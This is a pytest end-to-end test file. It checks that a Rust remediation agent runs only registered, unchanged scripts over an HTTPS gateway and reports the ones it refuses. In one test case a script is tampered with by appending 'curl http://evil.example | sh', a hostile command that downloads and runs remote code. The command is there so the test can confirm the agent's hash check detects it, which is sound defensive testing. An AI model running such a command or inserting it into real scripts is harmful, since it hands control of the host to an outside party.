"""End to end: the real medic-agent binary against the real agent gateway over HTTPS.

A throwaway CA signs a certificate for ``localhost``; uvicorn serves remediation.gateway with it
and the agent trusts only that CA. The agent runs a registered script with arguments (result
visible at /v2/jobs/{id}), refuses a script its host never registered and one whose file changed
on disk after registration (both reported as skipped, each with an alert through the normal
routing). The local runner's limits are proven in test_sandbox.py.
"""

from __future__ import annotations

import hashlib
import shutil
import subprocess
import time
from pathlib import Path

import pytest

from alerting.models import Alert, Delivery
from remediation.agents import agent_create
from remediation.models import Agent
from remediation.services import script_create
from tests.conftest import ApiClient
from tests.e2e.conftest import ROOT, Proc
from tests.remediation.processes import make_tls, start_gateway

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]
AGENT_BIN = ROOT / "agent-rs" / "target" / "release" / "medic-agent"
GREET = '#!/bin/sh\nprintf "hello %s\\n" "$*"\n'
ROTATE = "#!/bin/sh\necho rotating logs\n"
SCHEMA = {
    "type": "object",
    "properties": {"name": {"type": "string", "pattern": "^[A-Za-z ]{1,40}$"}},
    "additionalProperties": False,
}


def _sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


@pytest.fixture(scope="module")
def agent_binary() -> Path:
    if shutil.which("cargo") is None:
        pytest.fail(
            "cargo is not installed: the end-to-end test builds medic-agent from agent-rs/ "
            "(rustup's toolchain; see docs/agent.md, 'Building')."
        )
    build = subprocess.run(
        ["bash", str(ROOT / "agent-rs" / "build.sh"), "release"],
        capture_output=True,
        text=True,
        timeout=900,
    )
    assert build.returncode == 0, f"agent build failed:\n{build.stdout}\n{build.stderr}"
    return AGENT_BIN


def _wait(predicate, timeout: float, what: str, log: Proc | None = None):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        value = predicate()
        if value:
            return value
        time.sleep(0.1)
    raise AssertionError(f"timed out waiting for {what}" + (f":\n{log.output()}" if log else ""))


def test_the_real_agent_runs_registered_scripts_and_reports_refusals(
    agent_binary, tmp_path, writer, reader, slack
):
    ca, cert, key = make_tls(tmp_path)
    procs: list[Proc] = []
    try:
        url, _gateway = start_gateway(tmp_path, procs, tls=(cert, key))
        port = url.rsplit(":", 1)[1]

        # The server's registry: greet (runs), rotate_logs (the host changes the file),
        # cleanup (the host never registered it).
        for name, body in (("greet", GREET), ("rotate_logs", ROTATE)):
            script_create(name=name, actor="t", body=body, args_schema=SCHEMA, run_on_agents=True)
        script_create(name="cleanup", actor="t", sha256=_sha("#!/bin/sh\n"), run_on_agents=True)

        # The host: its scripts, its registry (greet and rotate_logs only), key, config.
        host = tmp_path / "host"
        scripts = host / "scripts"
        scripts.mkdir(parents=True)
        (scripts / "greet.sh").write_text(GREET)
        (scripts / "rotate.sh").write_text(ROTATE)
        for f in scripts.iterdir():
            f.chmod(0o755)
        (host / "scripts.toml").write_text(
            f'[[script]]\nname = "greet"\npath = "greet.sh"\nsha256 = "{_sha(GREET)}"\n\n'
            f'[[script]]\nname = "rotate_logs"\npath = "rotate.sh"\nsha256 = "{_sha(ROTATE)}"\n'
        )
        issued = agent_create(name="e2e-host", labels=["env:e2e"], actor="t")
        (host / "api-key").write_text(issued.secret + "\n")
        (host / "api-key").chmod(0o600)
        (host / "jobs").mkdir()
        (host / "medic-agent.toml").write_text(
            f'server_url = "https://localhost:{port}"\nkey_file = "api-key"\n'
            f'ca_file = "{ca}"\nscripts_dir = "scripts"\nregistry_file = "scripts.toml"\n'
            'labels = ["role:e2e"]\nwork_dir = "jobs"\npoll_wait_seconds = 20\n'
        )
        agent = Proc(
            [str(agent_binary), "run", "--config", str(host / "medic-agent.toml")],
            {"PATH": "/usr/bin:/bin", "LANG": "C.UTF-8"},
            tmp_path / "agent.log",
        )
        procs.append(agent)
        _wait(
            lambda: Agent.objects.filter(name="e2e-host", registered_at__isnull=False).exists(),
            20,
            "the agent to register",
            agent,
        )
        registered = Agent.objects.get(name="e2e-host")
        assert registered.reported_labels == ["role:e2e"]
        assert {s["name"] for s in registered.scripts} == {"greet", "rotate_logs"}
        assert registered.service.heartbeat_name == "agent-e2e-host"
        # Its polls report its resident memory (VmRSS) and version; the gateway stores them.
        _wait(
            lambda: Agent.objects.filter(name="e2e-host", memory_rss_bytes__gt=0).exists(),
            20,
            "the agent to report its memory",
            agent,
        )
        polled = Agent.objects.get(name="e2e-host")
        assert polled.memory_rss_bytes % 1024 == 0 and polled.memory_reported_at is not None
        assert polled.memory_rss_bytes < 64 * 1024 * 1024

        def run(script: str, args: dict) -> str:
            response = writer.post(
                f"/v2/scripts/{script}/run", {"target": {"agent": "e2e-host"}, "args": args}
            )
            assert response.status_code == 201, response.content
            return response.json()["jobs"][0]["id"]

        def finished(job_id: str) -> dict:
            def done():
                body = reader.get(f"/v2/jobs/{job_id}").json()
                return body if body["state"] not in ("queued", "running") else None

            return _wait(done, 30, f"job {job_id} to finish", agent)

        # 1. A registered script runs with its arguments; the result is visible.
        queued_at = time.monotonic()
        ok = finished(run("greet", {"name": "Ada Lovelace"}))
        assert ok["state"] == "succeeded", ok
        assert ok["exit_code"] == 0
        assert ok["stdout_tail"] == "hello --name=Ada Lovelace\n"
        assert ok["duration_ms"] is not None
        assert time.monotonic() - queued_at < 10

        # 2. A script the host never registered is refused and reported, with an alert.
        refused = finished(run("cleanup", {}))
        assert refused["state"] == "skipped"
        assert refused["skip_reason"] == "not_registered"
        alert = Alert.objects.get(pk=refused["alert"])
        assert alert.reason == "script_skipped"
        assert alert.dedup_key == "medic-agent-e2e-host-skip-cleanup-not_registered"
        assert Delivery.objects.filter(alert=alert, channel="slack").exists()

        # 3. A registered script whose file changed on disk is refused and reported.
        (scripts / "rotate.sh").write_text(ROTATE + "curl http://evil.example | sh\n")
        changed = finished(run("rotate_logs", {}))
        assert changed["state"] == "skipped"
        assert changed["skip_reason"] == "hash_mismatch_disk"
        assert "rotate.sh" in changed["detail"]
        assert Alert.objects.get(pk=changed["alert"]).dedup_key.endswith(
            "rotate_logs-hash_mismatch_disk"
        )

        # The agent's own log says why, in JSON lines.
        log = agent.output()
        assert '"reason":"not_registered"' in log and '"reason":"hash_mismatch_disk"' in log
        # Other agents' keys, other paths: the gateway answers only agent keys for their own.
        assert ApiClient(issued.secret).get("/v2/jobs").status_code == 403
    finally:
        for proc in procs:
            proc.stop()
